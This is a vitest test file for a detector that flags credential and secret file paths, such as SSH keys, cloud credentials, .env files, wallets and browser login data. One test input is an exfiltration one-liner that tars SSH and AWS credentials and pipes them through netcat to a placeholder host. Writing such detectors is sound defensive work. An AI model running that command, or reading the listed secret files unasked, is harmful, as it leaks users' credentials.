import { expect, it } from 'vitest';
import { sensitivePath, sensitivePathsIn } from './sensitive-paths.ts';

it.each([
  '~/.ssh/id_rsa',
  '/root/.ssh',
  '~/.aws/credentials',
  '.npmrc',
  'app/.env',
  '.env.production',
  '/etc/shadow',
  '~/.kube/config',
  '~/.docker/config.json',
  '~/Library/Keychains/login.keychain',
  '~/.config/google-chrome/Default/Login Data',
  '~/.bitcoin/wallet.dat',
  '~/.config/solana/id.json',
  'C:\\Users\\x\\.ssh\\id_ed25519',
  '/proc/self/environ',
  '~/.bash_history',
])('%s is a place for credentials', (path) => {
  expect(sensitivePath(path)).not.toBeNull();
});

it.each([
  'data/a.csv',
  '.env.example',
  'id_rsa.pub',
  'docs/ssh.md',
  'src/environment.ts',
  '.npmignore',
  'cookies.ts',
  '/etc/hosts',
])('%s is none', (path) => {
  expect(sensitivePath(path)).toBeNull();
});

it('finds the places that a command names', () => {
  expect(sensitivePathsIn('tar cz $HOME/.ssh ~/.aws/* | nc x 1').map(({ path }) => path)).toEqual([
    '$HOME/.ssh',
    '~/.aws/*',
  ]);
  expect(sensitivePathsIn('ls data')).toEqual([]);
});
